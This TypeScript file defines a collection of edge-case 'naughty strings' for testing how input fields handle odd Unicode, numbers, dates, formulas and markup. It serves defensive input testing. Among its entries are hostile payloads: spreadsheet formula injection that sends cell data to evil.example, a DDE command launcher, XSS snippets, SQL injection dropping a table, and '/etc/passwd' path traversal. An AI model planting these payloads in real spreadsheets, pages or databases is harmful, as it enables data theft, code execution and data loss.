// Strings that lists, exports and people with bad intentions put into cells: our own collection.
// It tests nothing itself.

/** Built from code points, since an editor shows none of these. */
const char = (...codes: readonly number[]): string => String.fromCodePoint(...codes);

const CONTROLS = [
  ...[char(0), char(7), char(8), char(0x0b), char(0x0c), char(0x1b), char(0x7f), char(0x85)],
  `Acme${char(0)}Inc`,
  `warm${char(0x1b)}[31m`,
  '\t',
  '\r',
  '\r\n',
  'line one\nline two\r\nline three\rline four',
  'tab\tbetween',
  char(0x2028, 0x2029),
];

const INVISIBLE = [
  ...[char(0xa0), char(0xad), char(0x200b), char(0x200c), char(0x200d), char(0x2060), char(0xfeff)],
  ...[char(0x180e), char(0x3000), char(0x115f), char(0x3164), char(0xe0041)],
  `cus${char(0xad)}tomer`,
  `${char(0xfeff)}Account`,
  `no${char(0x200b)}`,
];

const BIDI = [
  `Acme${char(0x202e)}moc.live`,
  `${char(0x2066)}Customer${char(0x2069)}`,
  `${char(0x200f)}לקוח`,
  'عميل',
  'שותף warm',
];

const EMOJI = ['🔥', '👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '✔️', '❌', '1️⃣', '⭐⭐⭐⭐⭐', 'Warm 🔥', '🤝'.repeat(40)];

const MARKS = [
  'Ca\u0301fe\u0301',
  '\u0301',
  'Z\u0351\u0306\u0318a\u0328\u0338\u031cl\u0321\u0353\u035cg\u0342\u0359\u0324o\u0352\u030c',
  'ﬁt',
  'Ａ',
  'ℌ𝔬𝔱',
  'ß',
  'İ',
  'ı',
  'ǅ',
  'ﷺ',
  '한국 株式会社',
  'हिन्दी',
  'ไทย',
];

/** Halves of characters: a cut through an emoji leaves them. */
const SURROGATES = ['\ud83d', '\udd25', `Acme \ud83d`, `\udd25 Acme`, '\udd25\ud83d'];

const FORMULAS = [
  ...['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', "'=1+1", '＝1+1', '=', '@'],
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML("http://evil.example","//a")',
  "=cmd|' /C calc'!A0",
  '+Acme',
  '-Acme',
  '@acme',
  '-2+3+cmd|x',
  '"=1+1"',
  '=A1:A',
];

const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea><b>bold</b>',
  '<!-- --><![CDATA[x]]>',
  '&lt;b&gt;&amp;&nbsp;&#0;',
  'javascript:alert(1)',
  'data:text/html,<b>',
  '<svg/onload=alert(1)>',
  "'-alert(1)-'",
  '<account> & <partner>',
];

const QUOTES = [
  ...["'", '"', '`', '“', '”', '„x“', '«x»', "''", '""', "O'Neil & Sons", 'Say "warm"', "won't"],
  ...['\\', '\\n', '\\u0000', '\\"', '$&', "$'", '$1', '$<account>', '%s %d %n', '%00', '%0d%0a'],
];

const BRACES = [
  ...[
    '{account}',
    '{{account}}',
    '{constructor}',
    '{__proto__}',
    '{',
    '}',
    '{}',
    '{ }',
    '{{',
    '}{',
  ],
  ...[
    '$' + '{account}',
    '#{account}',
    '<%= account %>',
    '[[x]]',
    '(',
    ')',
    '()',
    '[',
    '](',
    '((((',
  ],
];

const SQL = [
  "Robert'); DROP TABLE leads;--",
  "' OR 1=1 --",
  '1; SELECT * FROM x',
  '*',
  '../../etc/passwd',
  'C:\\con\\nul',
  'file:///etc/hosts',
];

/** Names that every object has already. */
export const PROPERTY_NAMES: readonly string[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'length'],
  ...['__defineGetter__', 'isPrototypeOf', 'toJSON', 'then', 'name', 'caller', 'arguments'],
];

/** What programs write where they have no value. */
const NO_VALUES = [
  ...['undefined', 'null', 'NULL', 'nil', 'NaN', 'Infinity', '-Infinity', '[object Object]'],
  ...['None', '(none)', '(blank)', '#N/A', '#REF!', '#n/a', 'Loading...', '???', '---', 'n/a; n/a'],
];

const NUMBERS = [
  ...['0', '-0', '+0', '00', '0x10', '0b11', '0o7', '1e3', '1e308', '1e309', '-1e309', '1e-400'],
  ...['١٢٣', '१२३', '１２３', '一二三', '②', '½', 'Ⅷ', '²', '1²', '௧', '𝟙𝟚'],
  ...['1,2,3', '1.2.3', '1,,2', '1..2', '.', ',', '.5', '5.', '-.5', '1 000', "1'000", '1_000'],
  ...['%', '85 %', '85%%', '%85', '150%', '-5%', '$', '$85', '85$', '€ 1.000,00', '(85)', '((85))'],
  ...[
    '9'.repeat(30),
    '9'.repeat(400),
    `0.${'0'.repeat(400)}1`,
    '1k',
    '1kk',
    '1M',
    '1e3k',
    '−5',
    '–5',
  ],
];

const DATES = [
  ...['0000-00-00', '0001-01-01', '1899-12-31', '1900-01-01', '2199-12-31', '2200-01-01'],
  ...['9999-12-31', '275760-09-13', '-271821-04-20', '2026-02-29', '2024-02-29', '31/04/2026'],
  ...[
    '99/99/9999',
    '1/1/1',
    '1/1/00',
    '00/00/00',
    '2026-13-01',
    '2026-3',
    '2026-W10',
    '٢٠٢٦-٠٣-٠٥',
  ],
  ...[
    '２０２６-０３-０５',
    '5 März 2026',
    '5 mars 2026',
    '2026年3月5日',
    '5th',
    'Feb',
    'Feb 30, 2026',
  ],
  ...[
    '12:00',
    '25:61',
    '2026-03-05T99:99',
    '2026-03-05 12:00      x',
    '0',
    '1',
    '-1',
    '60',
    '1e10',
  ],
  ...[
    'tomorrow',
    'Q3 2026',
    '2026-03-05/2026-04-05',
    '3-5-26-7',
    '20260399',
    '99999999',
    '8640000000000001',
  ],
];

const FIELD_WORDS = [
  ...['customer'.repeat(9), 'Customer/no', 'no, not, non-, none', 'ex-customer', 'CUSTOMER!!!'],
  ...[
    'warm-',
    'warm—',
    'warm:',
    ':warm',
    'no warm',
    'A-',
    'A+',
    'A(',
    'A)',
    'tier 1tier 2',
    'TIER_1',
  ],
  ...[
    'partner introduction declined',
    'yes no',
    'yes/no',
    'true false',
    'TRUE',
    'FALSE',
    'customer;;;',
  ],
  ...[';', ',', '/', '|', ';;,,//', 'n/a/n/a', 'a;b,c/d|e\nf', '-;-', '?;?', 'EQL', 'eql', 'MQL '],
];

/** Every one of them, short enough to be tried in every place. */
export const NAUGHTY_STRINGS: readonly string[] = [
  ...['', ' ', '   ', '\u00a0 '],
  ...CONTROLS,
  ...INVISIBLE,
  ...BIDI,
  ...EMOJI,
  ...MARKS,
  ...SURROGATES,
  ...FORMULAS,
  ...MARKUP,
  ...QUOTES,
  ...BRACES,
  ...SQL,
  ...PROPERTY_NAMES,
  ...NO_VALUES,
  ...NUMBERS,
  ...DATES,
  ...FIELD_WORDS,
];
